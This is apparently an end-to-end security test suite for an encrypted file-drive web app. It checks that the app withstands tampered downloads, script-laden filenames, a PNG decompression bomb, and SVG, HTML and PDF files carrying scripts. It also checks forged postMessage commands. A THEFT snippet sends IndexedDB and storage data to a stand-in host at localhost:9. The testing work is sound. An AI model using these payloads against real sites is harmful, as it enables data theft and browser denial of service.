import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { deflateSync, crc32 } from 'node:zlib';
import { chromium, type Browser, type BrowserContext } from 'playwright';
import { afterAll, beforeAll, expect } from 'vitest';
import { Person } from '../../e2e/person.ts';
import { CHROMIUM_ARGS, headlessChromiumPath } from '../../support/chromium.mjs';
import { startAppStack, type AppStack } from '../support/app-stack.ts';
import { MARKUP_PAYLOADS } from '../support/markup-payloads.ts';
import { row } from '../support/row.ts';

// The built app in Chromium, as a person uses it, with a hostile store or a hostile page beside it.

const START_MS = 240_000;
let stack: AppStack;
let browser: Browser;
let context: BrowserContext;
let ada: Person;
/** What no page of ours may ever do: reports of its policies, dialogs, uncaught errors. */
const alarms: string[] = [];

beforeAll(async () => {
  stack = await startAppStack();
  browser = await chromium.launch({ executablePath: headlessChromiumPath(), args: CHROMIUM_ARGS });
  context = await browser.newContext({ baseURL: stack.origin, acceptDownloads: true });
  await context.exposeFunction('alarmRaised', (text: string) => alarms.push(text));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      (globalThis as unknown as { alarmRaised(text: string): void }).alarmRaised(
        `${violatedDirective} ${blockedURI}`,
      );
    });
  });
  const page = await context.newPage();
  page.on('dialog', (dialog) => {
    alarms.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => alarms.push(error.message));
  ada = new Person(page, stack, 'ada', 'ada counts nine silver boats at dawn');
  await ada.signUp();
}, START_MS);
afterAll(async () => {
  await browser.close();
  await stack.stop();
}, START_MS);

const named = (name: string, content: string | Buffer, mimeType = 'text/plain') => ({
  name,
  mimeType,
  buffer: Buffer.from(content),
});

row(
  'H11',
  {
    attack: 'a download that was released too early',
    tried: 'last bytes flipped, cut or exchanged in S3, of one part and of two: what the browser makes of it',
  },
  async (t) => {
    for (const sizeBytes of [700_000, 9_000_000]) {
      const content = Buffer.alloc(sizeBytes, 'heron ');
      const name = `tampered ${String(sizeBytes)}.bin`;
      await ada.upload(named(name, content, 'application/octet-stream'));
      await ada.row(name).waitFor();
      const whole = await ada.download(name);
      expect(await whole.failure()).toBeNull();
      const tricks: ((body: Buffer) => Buffer)[] = [
        (body) => Buffer.from(body.map((byte, index) => (index === body.length - 20 ? byte ^ 1 : byte))),
        (body) => body.subarray(0, -1),
        (body) => Buffer.concat([body.subarray(0, -64), Buffer.alloc(64)]),
      ];
      for (const trick of t.full ? tricks : tricks.slice(0, 2)) {
        let tampered = 0;
        stack.store.hook = ({ method, path, headers }) => {
          const [, from = '0', until = '0'] = /bytes=(\d+)-(\d+)/.exec(headers.range ?? '') ?? [];
          const isLast = Number(until) + 1 > sizeBytes && (sizeBytes < 8_000_000 || Number(from) > 0);
          if (method !== 'GET' || !path.includes('/blobs/') || !isLast) return undefined;
          tampered += 1;
          return { kind: 'alter', alter: (reply) => ({ ...reply, body: trick(reply.body) }) };
        };
        const download = await ada.download(name);
        const failure = await download.failure();
        stack.store.behave();
        expect(tampered).toBeGreaterThan(0);
        expect(failure).not.toBeNull();
        t.vary(1);
        t.refused('download marked as failed');
      }
    }
    expect(alarms).toEqual([]);
  },
);

row(
  'H1',
  {
    attack: 'markup in names',
    tried: 'a hundred names as files, in the list, the transfers, menus, dialogs and a download’s name',
  },
  async (t) => {
    const all = [...new Set(MARKUP_PAYLOADS)];
    const payloads = t.full ? all : all.filter((_, index) => index % 9 === 0 || index > 80);
    for (const name of payloads) {
      await ada.upload(named(name, `content of ${name}`));
      t.vary(1);
    }
    const { page } = ada;
    const last = payloads.at(-1) ?? '';
    // The list shows what is in sight: each is looked for by name.
    await page.getByRole('searchbox', { name: 'Search your drive' }).fill(last);
    await ada.row(last).first().waitFor({ timeout: 60_000 });
    for (const name of payloads.slice(-3)) {
      await page.getByRole('searchbox', { name: 'Search your drive' }).fill(name);
      await ada.row(name).first().waitFor();
      const actions = page.getByRole('button', { name: `Actions for ${name}`, exact: true });
      // Asked about by its name, because it is there.
      await ada.upload(named(name, 'again'));
      await page.getByRole('dialog', { name }).getByRole('button', { name: 'Skip' }).click();
      await actions.click();
      await page.getByRole('menu').waitFor();
      await page.keyboard.press('Escape');
      const download = await ada.download(name);
      expect(await download.failure()).toBeNull();
    }
    await page.getByRole('searchbox', { name: 'Search your drive' }).fill('');
    const second = ada.at(await context.newPage());
    await second.page.goto('/');
    await second.files.waitFor();
    const injected = await second.page.evaluate(() => ({
      scripts: [...document.scripts].filter(({ text }) => text.includes('alert')).length,
      handlers: [...document.querySelectorAll('*')].filter((element) =>
        [...element.attributes].some(({ name }) => name.startsWith('on')),
      ).length,
      frames: [...document.querySelectorAll('iframe, object, embed, base')].filter(
        (element) => !element.hasAttribute('hidden'),
      ).length,
    }));
    expect(injected).toEqual({ scripts: 0, handlers: 0, frames: 0 });
    await second.page.close();
    expect(alarms).toEqual([]);
    t.held('no report of CSP or Trusted Types, no dialog, no element, no handler');
  },
);

/** One pixel. */
const TINY_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** A PNG of 100,000 by 100,000 grey pixels in a few kilobytes: ten gigabytes once it is decoded. */
function pngBomb(): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(data.length);
    frame.writeUInt32BE(crc32(body), 4);
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(100_000);
  header.writeUInt32BE(100_000, 4);
  header[8] = 8;
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1_000_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

row(
  'A14',
  {
    attack: 'files that attack whoever looks at them',
    tried: 'a PNG of 100,000 × 100,000, an SVG and an HTML page with scripts: looked at and downloaded',
  },
  async (t) => {
    const files = [
      named('bomb.png', pngBomb(), 'image/png'),
      named(
        'script.svg',
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        'image/svg+xml',
      ),
      named('page.html', '<script>alert(1)</script><img src=x onerror=alert(2)>', 'text/html'),
    ];
    const { page } = ada;
    const answers: string[] = [];
    page.on('response', (response) => {
      if (response.url().includes('/dl/')) answers.push(response.headers()['content-type'] ?? '');
    });
    for (const file of files) {
      await ada.upload(file);
      await page.getByRole('searchbox', { name: 'Search your drive' }).fill(file.name);
      await ada.row(file.name).first().waitFor({ timeout: 60_000 });
      const isLocked = (await ada.lock.innerText()).includes('Locked');
      const download = await ada.download(file.name, 'Download', isLocked);
      expect(await download.failure()).toBeNull();
      const hash = createHash('sha256');
      for await (const bytes of await download.createReadStream()) hash.update(bytes as Buffer);
      expect(hash.digest('hex')).toBe(createHash('sha256').update(file.buffer).digest('hex'));
      expect(download.suggestedFilename()).toBe(file.name);
      t.vary(1);
    }
    for (const type of answers) expect(type).toBe('application/octet-stream');
    expect(page.url().startsWith(stack.origin)).toBe(true);
    await page.getByRole('searchbox', { name: 'Search your drive' }).fill('');
    await ada.files.waitFor();
    expect(alarms).toEqual([]);
    t.held('the page lives on, and no document of a user runs in it');
  },
);

/** What a script in a document would do first, wherever it came to run. */
const THEFT = `parent.document.title = 'stolen'; opener && (opener.document.title = 'stolen');
indexedDB.databases().then((all) => fetch('http://localhost:9/' + JSON.stringify(all)));
navigator.storage.getDirectory().then((root) => fetch('http://localhost:9/' + root.name));`;

row(
  'H3',
  {
    attack: 'a document that goes after keys when it is looked at',
    tried:
      'HTML, XHTML, SVG, XML with a style sheet, MHTML and PDF with scripts, by their own types, as text and as pictures; a picture with HTML behind it, opened by its own address',
  },
  async (t) => {
    const { page } = ada;
    const html = `<!doctype html><title>stolen</title><script>${THEFT}</script><img src=x onerror="${THEFT}">`;
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${THEFT.replaceAll('&', '&amp;')}"><script><![CDATA[${THEFT}]]></script></svg>`;
    const documents: readonly (readonly [name: string, mediaType: string, content: string])[] = [
      ['theft.html', 'text/html', html],
      ['theft.xhtml', 'application/xhtml+xml', html],
      ['drawing.svg', 'image/svg+xml', svg],
      ['sheet.xml', 'text/xml', `<?xml-stylesheet type="text/xsl" href="data:text/xml,${html}"?><a/>`],
      ['mail.mhtml', 'multipart/related', `Content-Type: text/html\r\n\r\n${html}`],
      ['form.pdf', 'application/pdf', `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${THEFT})>>>>endobj`],
    ];
    const disguises = ['', 'text/plain', 'image/png', 'image/gif'];
    const asked: string[] = [];
    context.on('request', (request) => {
      if (request.url().startsWith('http://localhost:9/')) asked.push(request.url());
    });
    const frames = page.frames().length;
    for (const [index, [name, own, content]] of documents.entries()) {
      const tried = disguises.filter((_, nth) => t.full || nth === 0 || nth === 1 + (index % 3));
      for (const disguise of tried) {
        const shown = `${disguise.replace('/', ' ')} ${name}`.trim();
        await ada.upload(named(shown, content, disguise === '' ? own : disguise));
        await page.getByRole('searchbox', { name: 'Search your drive' }).fill(shown);
        await ada.row(shown).first().waitFor({ timeout: 60_000 });
        if ((await ada.lock.innerText()).includes('Locked')) await ada.unlock();
        await ada.act(shown, 'Open');
        const dialog = page.getByRole('dialog', { name: shown });
        const isText = (disguise === '' ? own : disguise).startsWith('text/');
        await dialog.locator(isText ? 'pre' : 'p.note:not([aria-live])').waitFor();
        const texts = await dialog.locator('pre').allInnerTexts();
        expect(texts).toEqual(isText ? [expect.stringContaining('stolen')] : []);
        expect(await dialog.locator('iframe, object, embed, svg svg, script').count()).toBe(0);
        await page.keyboard.press('Escape');
        await dialog.waitFor({ state: 'hidden' });
        t.vary(1);
      }
    }

    // A picture that is one, and a page too for anyone who reads it as one.
    const polyglot = Buffer.concat([TINY_PNG, Buffer.from(html)]);
    await ada.upload(named('polyglot.png', polyglot, 'image/png'));
    await page.getByRole('searchbox', { name: 'Search your drive' }).fill('polyglot.png');
    await ada.row('polyglot.png').first().waitFor({ timeout: 60_000 });
    await ada.act('polyglot.png', 'Open');
    const picture = page.getByRole('dialog').getByRole('img', { name: 'polyglot.png' });
    await expect.poll(() => picture.getAttribute('src')).toMatch(/^blob:/);
    const opened = context.waitForEvent('page');
    await page.evaluate((url) => void window.open(url ?? ''), await picture.getAttribute('src'));
    const alone = await opened;
    await alone.waitForLoadState();
    expect(await alone.evaluate(() => [document.contentType, document.scripts.length])).toEqual([
      'image/png',
      0,
    ]);
    await alone.close();
    t.vary(1);
    await page.keyboard.press('Escape');

    expect(asked).toEqual([]);
    expect(page.frames().length).toBeLessThanOrEqual(frames);
    expect(await page.title()).not.toContain('stolen');
    expect(alarms).toEqual([]);
    await page.getByRole('searchbox', { name: 'Search your drive' }).fill('');
    t.held(
      'text is shown as text, a picture as a picture, and nothing else is: no document is made of a file',
    );
  },
);

row(
  'H4',
  {
    attack: 'forged messages',
    tried:
      'every command and report of the worker’s protocol, and a download’s, from a page that opened or would frame the app',
  },
  async (t) => {
    const forged = [
      { id: 1, command: 'lock', args: {} },
      { id: 2, command: 'sign-out', args: {} },
      { kind: 'report', report: { kind: 'phase', phase: { phase: 'signed-out' } } },
      { kind: 'report', report: { kind: 'alarm', failure: { code: 'fork', detail: {} } } },
      { kind: 'answer', id: 1, result: {} },
      { kind: 'download', transfer: 'x'.repeat(22), name: 'evil.html', sizeBytes: 9 },
      { kind: 'pull' },
      { kind: 'end' },
    ];
    const evil = createServer((_, response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(`<!doctype html><title>evil</title><iframe id="frame" src="${stack.origin}/"></iframe>`);
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    const visitor = await browser.newContext();
    try {
      const state = await context.storageState();
      await visitor.addCookies(state.cookies);
      const opener = await visitor.newPage();
      await opener.goto(`http://localhost:${String((evil.address() as AddressInfo).port)}/`);
      // Framing is refused as a whole: the frame shows the browser's own error page.
      const framed = opener.frames().find((frame) => frame !== opener.mainFrame());
      expect(framed?.url().startsWith(stack.origin)).not.toBe(true);
      t.vary(1);
      const popup = opener.waitForEvent('popup');
      const reached = await opener.evaluate((origin) => {
        const opened = window.open(`${origin}/`);
        Object.assign(globalThis, { opened });
        return opened !== null;
      }, stack.origin);
      expect(reached).toBe(true);
      const app = await popup;
      await app
        .getByRole('link', { name: 'Sign in' })
        .or(app.getByRole('button', { name: 'Sign in' }))
        .first()
        .waitFor();
      const isCut = await opener.evaluate((messages) => {
        const { opened } = globalThis as unknown as { opened: Window };
        for (const message of messages) opened.postMessage(message, '*');
        return opened.closed;
      }, forged);
      // The opener's handle leads nowhere: Cross-Origin-Opener-Policy has put the app into a group of its own.
      expect(isCut).toBe(true);
      expect(await app.evaluate(() => window.opener === null)).toBe(true);
      t.vary(forged.length);
      // And from within the app's own origin, where only a script of ours could be: no listener takes them either.
      const lockedBefore = await ada.lock.innerText();
      const names = await ada.files.innerText();
      await ada.page.evaluate((messages) => {
        for (const message of messages) window.postMessage(message, location.origin);
      }, forged);
      await ada.page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)));
      expect(await ada.files.innerText()).toBe(names);
      expect((await ada.lock.innerText()).slice(0, 4)).toBe(lockedBefore.slice(0, 4));
      t.vary(forged.length);
      t.held('no window has a handle on the app, and no message of a window changes anything');
    } finally {
      await visitor.close();
      evil.close();
    }
  },
);
